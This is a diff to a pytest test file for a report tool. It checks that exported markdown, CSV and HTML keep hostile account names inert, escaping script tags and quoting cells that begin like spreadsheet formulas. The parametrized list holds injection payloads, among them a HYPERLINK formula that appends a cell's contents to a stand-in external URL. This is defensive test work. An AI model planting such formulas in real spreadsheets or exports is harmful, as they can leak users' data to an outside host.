@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from pathlib import Path
@@ -50,5 +52,34 @@ def test_markdown_keeps_hostile_text_literal(report, hostile_inputs) -> None:
 
     assert "<script>" not in text and "<img" not in text
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
-    table = [line for line in text.splitlines() if line.startswith("| ")]
-    assert all(line.count(" | ") == 1 for line in table[1:])
+    tables = [block.splitlines() for block in text.split("\n\n") if block.startswith("| ")]
+    assert len(tables) >= 3  # summary, findings by kind, compliance by OU
+    for table in tables:
+        assert {line.count(" | ") for line in table} == {table[0].count(" | ")}
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-1", "@x", "\tTAB", "\rCR"]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_csv_cells_never_start_like_a_formula(report, small, write, name: str) -> None:
+    """Spreadsheet formula injection: the account name reaches every cell prefixed with '."""
+    small["accounts"][1]["name"] = name
+    small["accounts"][1]["ou_path"] = name
+
+    text = report("--input", write("m.json", small), "--format", "csv").out
+
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    dev = [row for row in rows if row[0] == "222233334444"]
+    assert dev and all(row[1] == "'" + name and row[2] == "'" + name for row in dev)
+
+
+def test_html_table_cells_are_spreadsheet_safe_too(report, small, write) -> None:
+    """Excel opens an HTML table as a sheet: the same guard applies to its cells."""
+    small["accounts"][1]["name"] = "=1+2"
+
+    page = report("--input", write("m.json", small), "--format", "html").out
+
+    assert "<td>&#x27;=1+2</td>" in page and "<td>=1+2</td>" not in page
